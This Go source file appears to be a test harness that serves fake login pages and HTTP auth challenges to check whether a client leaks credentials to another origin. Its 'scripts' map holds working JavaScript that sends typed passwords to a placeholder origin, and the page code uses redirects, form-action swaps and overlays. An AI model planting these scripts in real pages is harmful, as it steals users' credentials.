package zoo

import (
	"crypto/rand"
	"fmt"
	"net/http"
	"strconv"
	"strings"
	"sync/atomic"

	"opora/backend/opora"
)

// session is the value of the cookie that the target gives with the login.
const session = "Session7Canary9of2the4Target"

// stage is the target of a case: it plays a login and, at its moment, misleads.
type stage struct {
	c      Case
	canary Canary
	self   *Origin
	lead   string // the address that misleads

	saidNo atomic.Bool // the credential was turned down
	letIn  atomic.Bool // it was answered with a page, which HTTP itself counts as accepted
}

func (s *stage) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if s.c.Kind != opora.Web {
		s.challenge(w, r)
		return
	}
	switch {
	case r.URL.Path == "/door" && s.c.Stage == AtDoor:
		s.door(w)
	case r.Method == http.MethodPost && s.c.Stage == InAnswer:
		http.SetCookie(w, &http.Cookie{Name: "sid", Value: session, Path: "/"})
		if header := headers[s.c.Means]; header != "" {
			host, _, _ := strings.Cut(strings.TrimPrefix(s.lead, "http://"), "/")
			name, _, _ := strings.Cut(host, ":")
			w.Header().Set(s.c.Means, strings.NewReplacer("{host}", host, "{hostname}", name).Replace(header))
			s.refuse(w)
			return
		}
		s.mislead(w)
	case r.Method == http.MethodPost:
		s.refuse(w)
	case r.URL.Path == "/door" || r.URL.Path == "/login":
		page(w, form("/login", ""))
	default:
		w.WriteHeader(http.StatusNotFound)
	}
}

func (s *stage) refuse(w http.ResponseWriter) {
	s.saidNo.Store(true)
	page(w, "<p>Неверный пароль</p>"+form("/login", ""))
}

// mislead gives the answer that leads away.
func (s *stage) mislead(w http.ResponseWriter) {
	switch s.c.Means {
	case "meta":
		page(w, `<meta http-equiv="refresh" content="0; url='`+s.lead+`'"><p>Секунду</p>`)
	case "refresh":
		w.Header().Set("Refresh", "0; url="+s.lead)
		page(w, "<p>Секунду</p>")
	default:
		status, _ := strconv.Atoi(s.c.Means)
		w.Header()["Location"] = []string{s.lead}
		w.WriteHeader(status)
	}
}

// door is the page with the login, made so that the form ends up elsewhere.
func (s *stage) door(w http.ResponseWriter) {
	switch s.c.Means {
	case "action":
		page(w, form(s.lead, ""))
	case "formaction":
		page(w, strings.Replace(form("/login", ""), "<button", `<button formaction="`+s.lead+`"`, 1))
	case "base":
		page(w, `<base href="`+s.lead+`">`+form("login", ""))
	case "frame":
		page(w, `<h1>Вход</h1><iframe src="`+s.lead+`" width="600" height="400"></iframe>`)
	case "foreign form":
		// The page lies elsewhere, its form leads back here.
		w.Header().Set("Location", s.lead)
		w.WriteHeader(http.StatusFound)
	case "get form":
		w.Header().Set("Referrer-Policy", "unsafe-url")
		page(w, strings.Replace(form("/login", ""), `method="post"`, `method="get"`, 1)+`<img src="`+s.lead+`">`)
	case "two steps":
		page(w, `<h1>Вход</h1><form method="post" action="`+s.lead+`"><input name="user" autocomplete="username"><button>Далее</button></form>`)
	default:
		if script := scripts[s.c.Means]; script != "" {
			page(w, form("/login", "")+"<script>"+strings.ReplaceAll(script, "{lead}", s.lead)+"</script>")
			return
		}
		s.mislead(w)
	}
}

// challenge plays a login by HTTP itself.
func (s *stage) challenge(w http.ResponseWriter, r *http.Request) {
	ask := func(realm, more string) {
		scheme := "Basic"
		if s.c.Kind == opora.Digest {
			scheme = "Digest"
			more += `, qop="auth", algorithm=SHA-256, nonce="` + rand.Text() + `"`
		}
		w.Header().Set("WWW-Authenticate", fmt.Sprintf(`%s realm="%s"%s`, scheme, realm, more))
		w.WriteHeader(http.StatusUnauthorized)
	}
	given := r.Header.Get("Authorization") != ""
	if given {
		s.saidNo.Store(s.c.Means == "domain" || s.c.Means == "location")
		s.letIn.Store(s.c.Means == "refresh")
	}
	switch {
	case s.c.Means == "domain":
		ask("zoo", `, domain="`+s.lead+`"`)
	case s.c.Stage == AtDoor && s.c.Means != "refresh":
		s.mislead(w)
	case !given:
		if s.c.Stage == AtDoor {
			w.Header().Set("Refresh", "0; url="+s.lead)
		}
		ask("zoo", "")
	case s.c.Means == "realm":
		ask("another", "")
	case s.c.Means == "stale":
		ask("zoo", ", stale=true")
	case s.c.Means == "proxy":
		w.Header().Set("Proxy-Authenticate", `Basic realm="zoo"`)
		w.WriteHeader(http.StatusProxyAuthRequired)
	case s.c.Means == "location":
		w.Header().Set("Location", s.lead)
		ask("zoo", "")
	case s.c.Stage == AtDoor:
		ask("other", "")
	default:
		s.mislead(w)
	}
}

// thief is the other origin: it takes whatever comes and looks like a login.
type thief struct {
	c  Case
	of *stage
}

func (o *thief) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	switch {
	case o.c.Kind != opora.Web:
		w.Header().Set("WWW-Authenticate", `Basic realm="zoo"`)
		w.WriteHeader(http.StatusUnauthorized)
	case o.c.Means == "foreign form":
		page(w, form(o.of.self.URL+"/login", ""))
	default:
		page(w, form("/login", ""))
	}
}

func page(w http.ResponseWriter, body string) {
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	_, _ = fmt.Fprint(w, "<!doctype html><html><head><title>Вход</title></head><body>"+body+"</body></html>")
}

func form(action, message string) string {
	return `<h1>Вход</h1>` + message + `<form method="post" action="` + action + `"><label>Логин <input name="user"></label>
	<label>Пароль <input type="password" name="pass"></label><button>Войти</button></form>`
}

// scripts lead a secret away from within the page: {lead} is the other origin.
var scripts = map[string]string{
	"location":           `location.href = "{lead}"`,
	"location later":     `setTimeout(() => location.replace("{lead}"), 400)`,
	"action on submit":   `document.forms[0].addEventListener("submit", e => { e.target.action = "{lead}" })`,
	"action on typing":   `document.forms[0].addEventListener("input", () => { document.forms[0].action = "{lead}" })`,
	"formaction late":    `document.querySelector("button").addEventListener("pointerdown", e => { e.target.formAction = "{lead}" })`,
	"base on focus":      `document.forms[0].addEventListener("focusin", () => { const b = document.createElement("base"); b.href = "{lead}"; document.head.prepend(b); document.forms[0].setAttribute("action", "login") })`,
	"fetch on typing":    `document.forms[0].addEventListener("input", () => { fetch("{lead}", {method: "POST", mode: "no-cors", body: document.querySelector("[type=password]").value}) })`,
	"beacon on submit":   `document.forms[0].addEventListener("submit", () => navigator.sendBeacon("{lead}", document.querySelector("[type=password]").value))`,
	"image on submit":    `document.forms[0].addEventListener("submit", () => { new Image().src = "{lead}?p=" + encodeURIComponent(document.querySelector("[type=password]").value) })`,
	"request on submit":  `document.forms[0].addEventListener("submit", e => { e.preventDefault(); const x = new XMLHttpRequest(); x.open("POST", "{lead}"); x.send(new FormData(document.forms[0])) })`,
	"socket on typing":   `document.forms[0].addEventListener("input", () => { new WebSocket("{lead}".replace("http", "ws") + "?" + btoa(unescape(encodeURIComponent(document.querySelector("[type=password]").value)))) })`,
	"window on submit":   `document.forms[0].addEventListener("submit", () => window.open("{lead}?" + document.querySelector("[type=password]").value))`,
	"target frame":       `const f = document.createElement("iframe"); f.name = "f"; document.body.append(f); document.forms[0].target = "f"; document.forms[0].addEventListener("submit", () => { document.forms[0].action = "{lead}" })`,
	"swap before typing": `document.addEventListener("focusin", () => { const f = document.forms[0].cloneNode(true); f.action = "{lead}"; document.forms[0].replaceWith(f) }, {once: true})`,
	"overlay":            `setTimeout(() => { const f = document.createElement("iframe"); f.src = "{lead}"; f.style = "position:fixed;inset:0;width:100%;height:100%"; document.body.append(f) }, 200)`,
	"name of the window": `document.forms[0].addEventListener("submit", () => { window.name = document.querySelector("[type=password]").value; location.href = "{lead}" })`,
	"referrer":           `document.forms[0].addEventListener("input", () => { history.replaceState(null, "", "?p=" + document.querySelector("[type=password]").value); const i = new Image(); i.referrerPolicy = "unsafe-url"; i.src = "{lead}" })`,
	"style on typing":    `document.forms[0].addEventListener("input", () => { const s = document.createElement("style"); s.textContent = "body{background:url({lead}?" + encodeURIComponent(document.querySelector("[type=password]").value) + ")}"; document.head.append(s) })`,
}
